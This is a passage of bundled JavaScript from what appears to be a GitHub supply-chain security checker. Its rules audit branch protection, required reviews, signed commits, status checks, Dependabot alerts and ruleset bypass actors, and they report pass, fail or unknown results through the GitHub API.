  const rules = ctx.fact(defaultBranchRulesFact);
  if (!rules.known) return null;
  const rulesets = ctx.fact(rulesetsFact);
  return {
    branch: rules.value.branch,
    fromRules: settingsFromRules(rules.value.rules, rulesets.known ? rulesets.value.rulesets : []),
    classic: ctx.fact(defaultBranchClassicProtectionFact)
  };
}
function requirement(view, holds, text) {
  const judgement = judge(view.fromRules, view.classic, holds);
  switch (judgement.status) {
    case "pass":
      return { status: "pass", message: text.pass(judgement) };
    case "fail":
      return { status: "fail", message: text.fail(judgement) };
    default:
      return {
        status: "unknown",
        message: `${text.unknownPrefix}, and classic branch protection could not be read: ${judgement.reason}`,
        permission: judgement.permission
      };
  }
}

// src/rules/code/default-branch-review.ts
var defaultBranchReview = defineRule({
  meta: {
    id: "default-branch-review",
    area: "code",
    severity: "high",
    title: "Default branch does not require reviewed pull requests",
    rationale: "Without required, independent review, one compromised account or token can land code on the default branch. Stale approvals and self-approved last pushes let a change be altered after review.",
    remediation: "In a branch ruleset (or classic protection) for the default branch, require a pull request with the configured number of approvals, dismiss stale approvals on push, and require approval of the most recent push and code-owner review as the policy asks.",
    references: ["SSC-33", "SLSA Source L4 (two-party review)", "CNCF SSCP: four-eyes", "OSPS-QA-07.01", "Scorecard: Branch-Protection", "Legitify: code_review_not_required"],
    access: { token: "github-token", githubToken: ["contents: read"], fineGrained: ["Metadata: read", "Administration: read (classic protection only)"], note: BRANCH_ACCESS_NOTE }
  },
  ...BRANCH_FACTS,
  defaultOptions: { minApprovals: 1, requireDismissStale: true, requireLastPushApproval: false, requireCodeOwnerReview: false },
  strictOptions: { minApprovals: 2, requireLastPushApproval: true, requireCodeOwnerReview: true },
  optionsSchema: {
    type: "object",
    properties: {
      minApprovals: { type: "integer", minimum: 0, maximum: 10, description: "Approvals required before merge." },
      requireDismissStale: { type: "boolean", description: "Require that new pushes dismiss earlier approvals." },
      requireLastPushApproval: { type: "boolean", description: "Require the most recent push to be approved by someone other than its pusher." },
      requireCodeOwnerReview: { type: "boolean", description: "Require review from code owners." }
    }
  },
  evaluate(ctx) {
    const view = branchView(ctx);
    if (!view) return [];
    const { branch } = view;
    const options = ctx.options;
    const results = [];
    results.push(
      requirement(view, (s) => s.pullRequest, {
        pass: (j) => `pull requests are required on ${branch} (${sourcesOf(j.settings, "pullRequest")})`,
        fail: () => `branch ${branch} does not require pull requests: anyone with write access can push directly`,
        unknownPrefix: `no active ruleset requires pull requests on ${branch}`
      })
    );
    if (options.minApprovals > 0) {
      results.push(
        requirement(view, (s) => s.pullRequest && s.approvals >= options.minApprovals, {
          pass: (j) => `${j.settings.approvals} approval(s) required on ${branch} (${sourcesOf(j.settings, "approvals")}; policy: ${options.minApprovals})`,
          fail: (j) => `branch ${branch} requires ${j.settings.pullRequest ? j.settings.approvals : 0} approval(s); the policy asks for at least ${options.minApprovals}`,
          unknownPrefix: `active rulesets require ${view.fromRules.approvals} approval(s) on ${branch} (policy: ${options.minApprovals})`
        })
      );
    }
    const flags = [
      [options.requireDismissStale, "dismissStale", "stale approvals dismissed when new commits are pushed"],
      [options.requireLastPushApproval, "lastPushApproval", "approval of the most recent push by someone other than its pusher"],
      [options.requireCodeOwnerReview, "codeOwnerReview", "review from code owners"]
    ];
    for (const [wanted, name, label] of flags) {
      if (!wanted) continue;
      results.push(
        requirement(view, (s) => s[name], {
          pass: (j) => `${branch}: ${label} (${sourcesOf(j.settings, name)})`,
          fail: () => `branch ${branch} does not require ${label}`,
          unknownPrefix: `no active ruleset requires ${label} on ${branch}`
        })
      );
    }
    return onlyProblems(results);
  }
});
function onlyProblems(results) {
  const problems = results.filter((result) => result.status !== "pass");
  if (problems.length > 0) return problems;
  return [{ status: "pass", message: results.map((result) => result.message).join("; ") }];
}

// src/rules/code/default-branch-history.ts
var defaultBranchHistory = defineRule({
  meta: {
    id: "default-branch-history",
    area: "code",
    severity: "high",
    title: "Default branch history can be rewritten or deleted",
    rationale: "A force push or a deletion silently replaces what was reviewed and released; SLSA Source L2 requires that history cannot be rewritten.",
    remediation: 'Add "Block force pushes" (non_fast_forward) and "Restrict deletions" (deletion) to the ruleset of the default branch, or untick "Allow force pushes" and "Allow deletions" in classic protection.',
    references: ["SSC-35", "SLSA Source L2", "OSPS-AC-03.02", "Scorecard: Branch-Protection", "Legitify: missing_default_branch_protection_force_push"],
    access: { token: "github-token", githubToken: ["contents: read"], fineGrained: ["Metadata: read", "Administration: read (classic protection only)"], note: BRANCH_ACCESS_NOTE }
  },
  ...BRANCH_FACTS,
  defaultOptions: { requireLinearHistory: false },
  strictOptions: { requireLinearHistory: true },
  optionsSchema: { type: "object", properties: { requireLinearHistory: { type: "boolean", description: "Also require linear history (no merge commits)." } } },
  evaluate(ctx) {
    const view = branchView(ctx);
    if (!view) return [];
    const { branch } = view;
    const results = [
      requirement(view, (s) => s.blocksForcePush, {
        pass: (j) => `force pushes to ${branch} are blocked (${sourcesOf(j.settings, "blocksForcePush")})`,
        fail: () => `force pushes to ${branch} are allowed`,
        unknownPrefix: `no active ruleset blocks force pushes to ${branch}`
      }),
      requirement(view, (s) => s.blocksDeletion, {
        pass: (j) => `deletion of ${branch} is blocked (${sourcesOf(j.settings, "blocksDeletion")})`,
        fail: () => `branch ${branch} can be deleted`,
        unknownPrefix: `no active ruleset blocks deletion of ${branch}`
      })
    ];
    if (ctx.options.requireLinearHistory) {
      results.push(
        requirement(view, (s) => s.linearHistory, {
          pass: (j) => `linear history required on ${branch} (${sourcesOf(j.settings, "linearHistory")})`,
          fail: () => `branch ${branch} does not require linear history`,
          unknownPrefix: `no active ruleset requires linear history on ${branch}`
        })
      );
    }
    return onlyProblems(results);
  }
});

// src/rules/code/default-branch-protection.ts
var defaultBranchProtection = defineRule({
  meta: {
    id: "default-branch-protection",
    area: "code",
    severity: "high",
    title: "Default branch is not protected",
    rationale: "An unprotected default branch accepts force pushes, deletion and unreviewed changes from anyone with write access, or from a stolen token.",
    remediation: "Protect the default branch with a ruleset (Settings > Rules > Rulesets) or classic branch protection: require pull requests, block force pushes and deletion.",
    references: ["SSC-32", "SLSA Source L3", "OSPS-AC-03.01", "Scorecard: Branch-Protection", "Legitify: missing_default_branch_protection"],
    access: {
      token: "github-token",
      githubToken: ["contents: read"],
      fineGrained: ["Metadata: read", "Administration: read (classic protection only)"],
      note: BRANCH_ACCESS_NOTE
    }
  },
  ...BRANCH_FACTS,
  defaultOptions: {},
  evaluate(ctx) {
    const view = branchView(ctx);
    if (!view) return [];
    const { branch, fromRules, classic } = view;
    if (fromRules.protections.length > 0) {
      return [{ status: "pass", message: `branch ${branch} is protected by rulesets (${fromRules.protections.join(", ")})` }];
    }
    if (!classic.known) {
      return [
        {
          status: "unknown",
          message: `no active ruleset protects branch ${branch}, and its classic branch protection could not be read: ${classic.reason}`,
          permission: classic.permission ?? "Administration: read"
        }
      ];
    }
    if (settingsFromClassic(classic.value.protection).protections.length > 0) return [{ status: "pass", message: `branch ${branch} is protected by classic branch protection` }];
    return [{ status: "fail", message: `branch ${branch} has neither an active ruleset nor classic branch protection` }];
  }
});

// src/rules/code/default-branch-signed-commits.ts
var defaultBranchSignedCommits = defineRule({
  meta: {
    id: "default-branch-signed-commits",
    area: "code",
    severity: "low",
    title: "Default branch does not require signed commits",
    rationale: "Required signatures tie every commit on the branch to a key GitHub verified, so a stolen password alone cannot forge authorship.",
    remediation: 'Add "Require signed commits" to the default branch ruleset (or classic protection).',
    references: ["SSC-38", "CNCF SSCP: signed commits", "Legitify: no_signed_commits"],
    access: { token: "github-token", githubToken: ["contents: read"], fineGrained: ["Metadata: read", "Administration: read (classic protection only)"], note: BRANCH_ACCESS_NOTE },
    baseline: false
  },
  ...BRANCH_FACTS,
  defaultOptions: {},
  evaluate(ctx) {
    const view = branchView(ctx);
    if (!view) return [];
    return [
      requirement(view, (s) => s.signedCommits, {
        pass: (j) => `signed commits required on ${view.branch} (${sourcesOf(j.settings, "signedCommits")})`,
        fail: () => `branch ${view.branch} does not require signed commits`,
        unknownPrefix: `no active ruleset requires signed commits on ${view.branch}`
      })
    ];
  }
});

// src/rules/code/default-branch-status-checks.ts
var defaultBranchStatusChecks = defineRule({
  meta: {
    id: "default-branch-status-checks",
    area: "code",
    severity: "medium",
    title: "Required status checks missing on the default branch",
    rationale: "A check that is not required does not block a merge: CI, the dependency gate and chaingate itself are then advice, not a gate.",
    remediation: "Add a required status checks rule to the default branch's ruleset (or classic protection) naming CI and chaingate's check (the job name, or `checkName` in the policy).",
    references: ["SSC-34", "SSC-17", "OSPS-QA-06.01", "Scorecard: Branch-Protection", "Legitify: requires_status_checks"],
    access: { token: "github-token", githubToken: ["contents: read"], fineGrained: ["Metadata: read", "Administration: read (classic protection only)"], note: BRANCH_ACCESS_NOTE }
  },
  needs: BRANCH_FACTS.needs,
  uses: [...BRANCH_FACTS.uses, workflowPathsFact],
  defaultOptions: { checkName: "chaingate", requiredChecks: [], requireStrict: false },
  strictOptions: { requireStrict: true },
  optionsSchema: {
    type: "object",
    properties: {
      checkName: { type: "string", description: "chaingate's check as named in the required checks ('' to not require it)." },
      requiredChecks: { type: "array", items: { type: "string" }, description: "Other checks that must be required." },
      requireStrict: { type: "boolean", description: "Require branches to be up to date before merging." }
    }
  },
  evaluate(ctx) {
    const view = branchView(ctx);
    if (!view) return [];
    const { branch } = view;
    const options = ctx.options;
    const results = [
      requirement(view, (s) => s.statusChecks.length > 0 || s.requiredWorkflows.length > 0, {
        pass: (j) => [
          j.settings.statusChecks.length ? `required checks on ${branch}: ${j.settings.statusChecks.join(", ")} (${sourcesOf(j.settings, "statusChecks")})` : null,
          j.settings.requiredWorkflows.length ? `required workflows on ${branch}: ${j.settings.requiredWorkflows.join(", ")} (${sourcesOf(j.settings, "requiredWorkflows")})` : null
        ].filter(Boolean).join("; "),
        fail: () => `branch ${branch} requires no status checks: a failing CI or gate does not block the merge`,
        unknownPrefix: `no active ruleset requires status checks on ${branch}`
      })
    ];
    if (options.checkName) {
      const paths = ctx.fact(workflowPathsFact);
      const names = [.../* @__PURE__ */ new Set([options.checkName, ...paths.known ? paths.value.chaingateJobs : []])];
      const shown = names.map((name) => `"${name}"`).join(" or ");
      const viaWorkflow = (s) => s.requiredWorkflows.find((id) => /chaingate/i.test(id.split(":").slice(1).join(":")));
      results.push(
        requirement(view, (s) => names.some((name) => s.statusChecks.includes(name)) || viaWorkflow(s) !== void 0, {
          pass: (j) => `chaingate's check ${names.find((name) => j.settings.statusChecks.includes(name)) ?? `(required workflow ${viaWorkflow(j.settings)})`} is required on ${branch}`,
          fail: (j) => `chaingate's own check (${shown}) is not required on ${branch}${j.settings.statusChecks.length ? ` (required: ${j.settings.statusChecks.join(", ")})` : ""}; set checkName in the policy if the job has another name`,
          unknownPrefix: `no active ruleset requires chaingate's check (${shown}) on ${branch}`
        })
      );
    }
    for (const name of options.requiredChecks) {
      results.push(
        requirement(view, (s) => s.statusChecks.includes(name), {
          pass: () => `${name} is a required check on ${branch}`,
          fail: (j) => `check "${name}" is not required on ${branch}${j.settings.statusChecks.length ? ` (required: ${j.settings.statusChecks.join(", ")})` : ""}`,
          unknownPrefix: `no active ruleset requires check "${name}" on ${branch}`
        })
      );
    }
    if (options.requireStrict) {
      results.push(
        requirement(view, (s) => s.strictStatusChecks, {
          pass: () => `${branch} must be up to date before merging`,
          fail: () => `branch ${branch} does not require pull requests to be up to date before merging`,
          unknownPrefix: `no active ruleset requires ${branch} to be up to date before merging`
        })
      );
    }
    return onlyProblems(results);
  }
});

// src/rules/code/dependabot-alert-sla.ts
var dependabotAlertSla = defineRule({
  meta: {
    id: "dependabot-alert-sla",
    area: "code",
    severity: "high",
    title: "Dependabot alert open past its SLA",
    rationale: "A known-vulnerable dependency left unpatched is the most common way in; an SLA per severity keeps triage honest.",
    remediation: "Update the dependency (or merge the Dependabot pull request); if it is not exploitable here, dismiss the alert with a reason, or add a policy waiver with an expiry date.",
    references: ["SSC-15", "SSC-18", "OSPS-VM-05", "GitHub guide: securing code (B3)"],
    access: { token: "github-token", githubToken: ["vulnerability-alerts: read"], fineGrained: ["Dependabot alerts: read"] }
  },
  needs: [dependabotAlertsFact],
  defaultOptions: DEFAULT_SLA,
  strictOptions: { minSeverity: "medium" },
  optionsSchema: SLA_OPTIONS_SCHEMA,
  evaluate(ctx) {
    const fact = ctx.need(dependabotAlertsFact);
    if (!fact.enabled) return [{ status: "unknown", message: `Dependabot alerts are disabled, so open alerts cannot be checked (${fact.disabledBecause ?? ""})`.trim(), permission: "enable Dependabot alerts" }];
    const results = [];
    for (const alert of fact.alerts) {
      const severity = alertSeverity(alert.severity);
      const state = overdue(severity, alert.createdAt, ctx.now, ctx.options);
      if (!state.overdue) continue;
      const location = fileLocation(alert.manifestPath);
      results.push({
        status: "fail",
        severity,
        message: `Dependabot alert #${alert.number} (${severity}) ${alert.advisory} in ${alert.package}${alert.manifestPath ? ` (${alert.manifestPath})` : ""} has been open ${state.age} days; SLA ${state.sla} days: ${alert.htmlUrl}`,
        ...location ? { location } : {}
      });
    }
    if (results.length === 0) return [{ status: "pass", message: `${fact.alerts.length} open Dependabot alert(s), none ${ctx.options.minSeverity} or above past its SLA` }];
    return results;
  }
});

// src/rules/code/dependabot-alerts.ts
var dependabotAlerts = defineRule({
  meta: {
    id: "dependabot-alerts",
    area: "code",
    severity: "medium",
    title: "Dependabot alerts are disabled",
    rationale: "Without alerts nobody learns that a dependency in use has a published vulnerability.",
    remediation: "Settings > Code security > Dependabot alerts: Enable (and the dependency graph).",
    references: ["SSC-13", "GitHub guide: securing code (B3)", "Legitify: vulnerability_alerts_not_enabled"],
    access: { token: "github-token", githubToken: ["vulnerability-alerts: read"], fineGrained: ["Dependabot alerts: read"] }
  },
  needs: [dependabotAlertsFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.need(dependabotAlertsFact);
    return fact.enabled ? [{ status: "pass", message: "Dependabot alerts are enabled" }] : [{ status: "fail", message: `Dependabot alerts are disabled (${fact.disabledBecause ?? "GitHub says so"})` }];
  }
});

// src/rules/code/dependabot-security-updates.ts
var dependabotSecurityUpdates = defineRule({
  meta: {
    id: "dependabot-security-updates",
    area: "code",
    severity: "low",
    title: "Dependabot security updates are disabled or paused",
    rationale: "Alerts without fix pull requests wait for someone to act; security updates make the fix a merge away.",
    remediation: "Settings > Code security > Dependabot security updates: Enable; if GitHub paused them after inactivity, merge or close the pending ones.",
    references: ["SSC-14", "GitHub guide: securing code (B3)"],
    access: { token: "elevated", fineGrained: ["Administration: read"], note: "GET /repos/{o}/{r}/automated-security-fixes (enabled and paused), admin read." }
  },
  needs: [dependabotSecurityUpdatesFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.need(dependabotSecurityUpdatesFact);
    if (!fact.enabled) return [{ status: "fail", message: "Dependabot security updates are disabled" }];
    if (fact.paused) return [{ status: "fail", message: "Dependabot security updates are enabled but paused" }];
    return [{ status: "pass", message: "Dependabot security updates are enabled" }];
  }
});

// src/rules/code/private-vulnerability-reporting.ts
var privateVulnerabilityReporting = defineRule({
  meta: {
    id: "private-vulnerability-reporting",
    area: "code",
    severity: "low",
    title: "Private vulnerability reporting is disabled",
    rationale: "Without a private channel, a reporter either gives up or files a public issue, publishing the vulnerability before a fix.",
    remediation: "Settings > Code security > Private vulnerability reporting: Enable (or enable it for all repositories in the organization).",
    references: ["SSC-41", "OSPS-VM-03.01", "Scorecard: Security-Policy"],
    access: { token: "github-token", githubToken: ["contents: read"], fineGrained: ["Administration: read"], note: "GitHub documents no GITHUB_TOKEN scope for this endpoint; when the workflow token is refused, admin-token is used." }
  },
  needs: [repositoryFact, privateVulnerabilityReportingFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.need(privateVulnerabilityReportingFact);
    const repository = ctx.need(repositoryFact);
    if (fact.enabled) return [{ status: "pass", message: "private vulnerability reporting is enabled" }];
    return [{ status: "fail", message: `private vulnerability reporting is disabled on ${repository.full_name}` }];
  }
});

// src/rules/code/protection-bypass.ts
function actorLabel(actor) {
  return actor.actor_id === null || actor.actor_id === void 0 || actor.actor_type === "OrganizationAdmin" || actor.actor_type === "DeployKey" ? actor.actor_type : `${actor.actor_type}:${actor.actor_id}`;
}
var protectionBypass = defineRule({
  meta: {
    id: "protection-bypass",
    area: "code",
    severity: "medium",
    title: "Branch or tag protection is not enforced for everyone",
    rationale: "A ruleset in evaluate mode only reports violations; bypass actors and administrators exempt from classic protection can push unreviewed changes or rewrite history. Peers count such rulesets as protection; chaingate does not.",
    remediation: 'Switch rulesets to Active, remove bypass actors (or list the accepted ones in `allowedBypassActors` with a reason), and tick "Do not allow bypassing the above settings" in classic protection.',
    references: ["SSC-36", "SLSA Source L3 (continuous enforcement)", "Legitify: users_allowed_to_bypass_ruleset", "CIS 1.1.14"],
    access: {
      token: "github-token",
      githubToken: ["contents: read"],
      fineGrained: ["Metadata: read", "Administration: read (bypass actors and classic protection)"],
      note: "Enforcement modes are visible to any reader; GitHub returns bypass_actors only to a token that may edit the ruleset (repository admin, organization owner for organization rulesets), so without admin-token a ruleset bypass list is unknown."
    }
  },
  needs: [rulesetsFact, defaultBranchRulesFact],
  uses: [defaultBranchClassicProtectionFact],
  defaultOptions: { allowedBypassActors: [], allowPullRequestBypass: false },
  optionsSchema: {
    type: "object",
    properties: {
      allowedBypassActors: { type: "array", items: { type: "string" }, description: "Accepted bypass actors, e.g. Integration:12345, Team:42, OrganizationAdmin." },
      allowPullRequestBypass: { type: "boolean", description: "Accept actors that can bypass only through a pull request." }
    }
  },
  evaluate(ctx) {
    const rulesetsFactValue = ctx.need(rulesetsFact);
    const rulesFact = ctx.need(defaultBranchRulesFact);
    const branch = rulesFact.branch;
    const ref = `refs/heads/${branch}`;
    const appliedIds = new Set(rulesFact.rules.map((rule) => rule.ruleset_id).filter((id) => id !== void 0));
    const relevance = (ruleset) => {
      if (ruleset.enforcement === "disabled") return false;
      if (ruleset.target === "tag") return true;
      if (ruleset.target !== "branch") return false;
      if (appliedIds.has(ruleset.id)) return true;
      return ruleset.refName ? refMatches(ruleset.refName, ref, branch) : null;
    };
    const relevant = (ruleset) => relevance(ruleset) === true;
    const results = [];
    const { allowedBypassActors, allowPullRequestBypass } = ctx.options;
    for (const ruleset of rulesetsFactValue.rulesets.filter((item) => relevance(item) === null)) {
      results.push({
        status: "unknown",
        message: `${ruleset.enforcement} branch ruleset "${ruleset.name}" (${ruleset.sourceType.toLowerCase()} ${ruleset.source}): whether it applies to ${branch} could not be read (${ruleset.detailsError ?? "no conditions"})`,
        permission: "Metadata: read"
      });
    }
    for (const ruleset of rulesetsFactValue.rulesets.filter(relevant)) {
      const where = `${ruleset.target} ruleset "${ruleset.name}" (${ruleset.sourceType.toLowerCase()} ${ruleset.source})`;
      if (ruleset.enforcement === "evaluate") {
        results.push({ status: "fail", message: `${where} is in evaluate mode: its rules are reported, not enforced` });
        continue;
      }
      if (ruleset.bypassActors === null) {
        results.push({
          status: "unknown",
          message: `${where}: its bypass actors are not visible to the token (${ruleset.detailsError ?? "GitHub returns bypass_actors only to those who may edit the ruleset"})`,
          permission: "Administration: read (repository; organization owner for organization rulesets), via admin-token"
        });
        continue;
      }
      const offending = ruleset.bypassActors.filter((actor) => {
        if (allowPullRequestBypass && actor.bypass_mode === "pull_request") return false;
        const label = actorLabel(actor);
        return !allowedBypassActors.includes(label) && !allowedBypassActors.includes(actor.actor_type);
      });
      if (offending.length > 0) {
        results.push({
          status: "fail",
          message: `${where} can be bypassed by ${offending.map((actor) => `${actorLabel(actor)} (${actor.bypass_mode ?? "always"})`).join(", ")}`
        });
      }
    }
    const classic = ctx.fact(defaultBranchClassicProtectionFact);
    const rulesetProtected = settingsFromRules(rulesFact.rules).protections.length > 0;
    if (!rulesetProtected) {
      if (!classic.known) {
        results.push({
          status: "unknown",
          message: `no active ruleset protects ${branch}, and whether classic protection applies to administrators could not be read: ${classic.reason}`,
          permission: classic.permission ?? "Administration: read"
        });
      } else if (classic.value.protection && classic.value.protection.enforce_admins?.enabled !== true) {
        results.push({ status: "fail", message: `classic protection of ${branch} does not apply to administrators (enforce_admins is off)` });
      }
    }
    if (results.length === 0) {
      const count = rulesetsFactValue.rulesets.filter(relevant).length;
      return [{ status: "pass", message: `${count} ruleset(s) on ${branch} and tags are active with no bypass actors outside the policy` }];
    }
    return results;
  }
});

// src/pull-request/event.ts
var PULL_REQUEST_EVENTS = ["pull_request", "pull_request_target", "pull_request_review"];
var QUEUE_REF = /^(?:refs\/heads\/)?gh-readonly-queue\/.+\/pr-(\d+)-([0-9a-f]{7,64})$/;
function pullRequestFromQueueRef(ref) {
  const match = QUEUE_REF.exec(ref);
  return match ? Number(match[1]) : null;
}
function record2(value) {
  return typeof value === "object" && value !== null && !Array.isArray(value) ? value : null;
}
function pullRequestOf(event) {
  if (!event) return null;
  if (PULL_REQUEST_EVENTS.includes(event.name)) {
    const pr = record2(event.payload.pull_request);
    const number = typeof pr?.number === "number" ? pr.number : typeof event.payload.number === "number" ? event.payload.number : null;
    if (number === null) return null;
    const head = record2(pr?.head);
    const user = record2(pr?.user);
    return {
      number,
      event: event.name,
      ...typeof head?.sha === "string" ? { headSha: head.sha } : {},
      ...typeof user?.login === "string" ? { author: user.login } : {}
    };
  }
  if (event.name === "merge_group") {
    const group = record2(event.payload.merge_group);
    const ref = typeof group?.head_ref === "string" ? group.head_ref : "";
    const number = pullRequestFromQueueRef(ref);
    if (number === null) return null;
    return { number, event: event.name, ...typeof group?.head_sha === "string" ? { groupHeadSha: group.head_sha } : {} };
  }
  return null;
}

// src/pull-request/facts.ts
var NOT_A_PULL_REQUEST = "this run is not for a pull request (checked only on pull_request, pull_request_target, pull_request_review and merge_group events)";
function notInPullRequestMode(ctx) {
  const name = ctx.event?.name;
  return name ? unknownFact("other-event", `${NOT_A_PULL_REQUEST}; event was ${name}`) : unknownFact("not-applicable", NOT_A_PULL_REQUEST);
}
var pullRequestDataFact = defineFact("github.pull-request-data", async (ctx) => {
  const ref = pullRequestOf(ctx.event);
  if (!ref) return notInPullRequestMode(ctx);
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const data = await graphql(client, PULL_REQUEST_QUERY, { owner, name: repo, number: ref.number });
      const pr = data.repository?.pullRequest;
      if (!pr) throw new Error(`pull request #${ref.number} not visible to GraphQL`);
      const reviews = pr.reviews.pageInfo.hasNextPage ? null : pr.reviews.nodes.flatMap((node) => node ? [{ user: actorLogin(node.author), state: node.state, commitId: node.commit?.oid ?? null, submittedAt: node.submittedAt }] : []);
      const commits = pr.commits.pageInfo.hasNextPage ? null : pr.commits.nodes.flatMap(
        (node) => node ? [
          {
            sha: node.commit.oid,
            verified: node.commit.signature?.isValid === true,
            reason: (node.commit.signature?.state ?? "UNSIGNED").toLowerCase(),
            author: node.commit.author?.user?.login ?? null
          }
        ] : []
      );
      return { number: pr.number, headSha: pr.headRefOid, author: actorLogin(pr.author) ?? "ghost", reviews, commits };
    },
    { what: `pull request #${ref.number}`, permission: "pull-requests: read" }
  );
});
var pullRequestFact = defineFact("github.pull-request", async (ctx) => {
  const ref = pullRequestOf(ctx.event);
  if (!ref) return notInPullRequestMode(ctx);
  if (!ctx.target) return noTarget();
  if (ref.headSha && ref.author) return known({ number: ref.number, event: ref.event, headSha: ref.headSha, author: ref.author });
  const extra = ref.groupHeadSha ? { groupHeadSha: ref.groupHeadSha } : {};
  const graph = await ctx.get(pullRequestDataFact);
  if (graph.known) return known({ number: ref.number, event: ref.event, headSha: graph.value.headSha, author: graph.value.author, ...extra });
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const data = (await client.octokit.rest.pulls.get({ owner, repo, pull_number: ref.number })).data;
      return { number: ref.number, event: ref.event, headSha: data.head.sha, author: data.user.login, ...extra };
    },
    { what: `pull request #${ref.number}`, permission: "pull-requests: read" }
  );
});
var pullRequestReviewsFact = defineFact("github.pull-request-reviews", async (ctx) => {
  const pr = await ctx.get(pullRequestFact);
  if (!pr.known) return pr;
  const graph = await ctx.get(pullRequestDataFact);
  if (graph.known && graph.value.reviews) return known(graph.value.reviews);
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const { items: items2 } = await listAll(client, "GET /repos/{owner}/{repo}/pulls/{pull_number}/reviews", {
        owner,
        repo,
        pull_number: pr.value.number
      });
      return items2.map((item) => ({ user: item.user?.login ?? null, state: item.state, commitId: item.commit_id, submittedAt: item.submitted_at ?? null }));
    },
    { what: `reviews of pull request #${pr.value.number}`, permission: "pull-requests: read" }
  );
});
var pullRequestCommitsFact = defineFact("github.pull-request-commits", async (ctx) => {
  const pr = await ctx.get(pullRequestFact);
  if (!pr.known) return pr;
  const graph = await ctx.get(pullRequestDataFact);
  if (graph.known && graph.value.commits) return known({ commits: graph.value.commits, truncated: false });
  const { owner, repo } = ctx.target;
  return tieredFact(
    ctx,
    "github-token",
    async (client) => {
      const { items: items2 } = await listAll(
        client,
        "GET /repos/{owner}/{repo}/pulls/{pull_number}/commits",
        { owner, repo, pull_number: pr.value.number }
      );
      return {
        commits: items2.map((item) => ({
          sha: item.sha,
          verified: item.commit.verification?.verified === true,
          reason: item.commit.verification?.reason ?? "unknown",
          author: item.author?.login ?? null
        })),
        truncated: items2.length >= 250
      };
    },
    { what: `commits of pull request #${pr.value.number}`, permission: "pull-requests: read" }
  );
});

// src/rules/code/pull-request-approval.ts
function approvalsOnHead(reviews, author, headSha) {
  const latest = /* @__PURE__ */ new Map();
  for (const review of reviews) {
    if (!review.user || review.user.toLowerCase() === author.toLowerCase()) continue;
    if (review.state === "APPROVED" || review.state === "CHANGES_REQUESTED" || review.state === "DISMISSED") latest.set(review.user, review);
  }
  const approvers = [];
  const staleApprovers = [];
  const changesRequested = [];
  for (const [user, review] of latest) {
    if (review.state === "APPROVED") (review.commitId === headSha ? approvers : staleApprovers).push(user);
    else if (review.state === "CHANGES_REQUESTED") changesRequested.push(user);
  }
  return { approvers: approvers.sort(), staleApprovers: staleApprovers.sort(), changesRequested: changesRequested.sort() };
}
var pullRequestApproval = defineRule({
  meta: {
    id: "pull-request-approval",
    area: "code",
    severity: "high",
    title: "Pull request not approved on its final commit by someone other than its author",
    rationale: "Branch settings say what should happen; this checks what did: that the exact code being merged was approved by enough people other than its author (four-eyes, SLSA Source L4).",
    remediation: "Get an approval from another maintainer after the last push; approvals of earlier commits do not cover later ones.",
    references: ["SSC-37", "SLSA Source L4", "CNCF SSCP: four-eyes principle", "Scorecard: Code-Review"],
    access: {
      token: "github-token",
      githubToken: ["pull-requests: read"],
      fineGrained: ["Pull requests: read"],
      note: "Pull-request mode only (pull_request, pull_request_target, pull_request_review, merge_group); on other events the rule is unknown (not applicable)."
    }
  },
  needs: [pullRequestFact, pullRequestReviewsFact],
  defaultOptions: { minApprovals: 1, exemptAuthors: [] },
  strictOptions: { minApprovals: 2 },
  optionsSchema: {
    type: "object",
    properties: {
      minApprovals: { type: "integer", minimum: 1, maximum: 10, description: "Distinct approvals required on the final commit." },
      exemptAuthors: { type: "array", items: { type: "string" }, description: "Pull request authors exempt from the check (bots)." }
    }
  },
  evaluate(ctx) {
    const pr = ctx.need(pullRequestFact);
    const reviews = ctx.need(pullRequestReviewsFact);
    const { number, author, headSha, event } = pr;
    const subject = `pull request #${number}${event === "merge_group" ? " (merge queue)" : ""}`;
    if (ctx.options.exemptAuthors.map((name) => name.toLowerCase()).includes(author.toLowerCase())) {
      return [{ status: "pass", message: `${subject} is by ${author}, exempt by the policy` }];
    }
    const { approvers, staleApprovers, changesRequested } = approvalsOnHead(reviews, author, headSha);
    const short = headSha.slice(0, 12);
    if (approvers.length >= ctx.options.minApprovals && changesRequested.length === 0) {
      return [{ status: "pass", message: `${subject} approved on ${short} by ${approvers.join(", ")}` }];
    }
    const details = [
      `${approvers.length} approval(s) on the final commit ${short}${approvers.length ? ` (${approvers.join(", ")})` : ""}; the policy asks for ${ctx.options.minApprovals}`,
      staleApprovers.length ? `approvals of earlier commits do not count: ${staleApprovers.join(", ")}` : null,
      changesRequested.length ? `changes requested by ${changesRequested.join(", ")}` : null
    ].filter(Boolean);
    return [{ status: "fail", message: `${subject} by ${author}: ${details.join("; ")}` }];
  }
});

// src/rules/code/pull-request-signed-commits.ts
var pullRequestSignedCommits = defineRule({
  meta: {
    id: "pull-request-signed-commits",
    area: "code",
    severity: "medium",
    title: "Pull request has commits without a verified signature",
    rationale: "Verified signatures tie each commit to a key its author registered; unsigned commits can claim any author.",
    remediation: "Sign commits (git commit -S, or SSH signing) with a key registered on GitHub, then rebase and force-push the branch to re-sign.",
    references: ["SSC-38", "CNCF SSCP: signed commits"],
    access: { token: "github-token", githubToken: ["pull-requests: read"], fineGrained: ["Pull requests: read"], note: "Pull-request mode only. At most 250 commits are listed by GitHub." },
    baseline: false
  },
  needs: [pullRequestFact, pullRequestCommitsFact],
  defaultOptions: {},
  evaluate(ctx) {
    const pr = ctx.need(pullRequestFact);
    const commits = ctx.need(pullRequestCommitsFact);
    const unsigned = commits.commits.filter((commit) => !commit.verified);
    if (unsigned.length > 0) {
      return unsigned.map((commit) => ({ status: "fail", message: `commit ${commit.sha.slice(0, 12)} of pull request #${pr.number}${commit.author ? ` by ${commit.author}` : ""} is not verified (${commit.reason})` }));
    }
    if (commits.truncated) {
      return [{ status: "unknown", message: `pull request #${pr.number} has more than 250 commits; GitHub lists only the first 250, all verified` }];
    }
    return [{ status: "pass", message: `all ${commits.commits.length} commit(s) of pull request #${pr.number} are verified` }];
  }
});

// src/rules/code/release-branch-protection.ts
var releaseBranchProtection = defineRule({
  meta: {
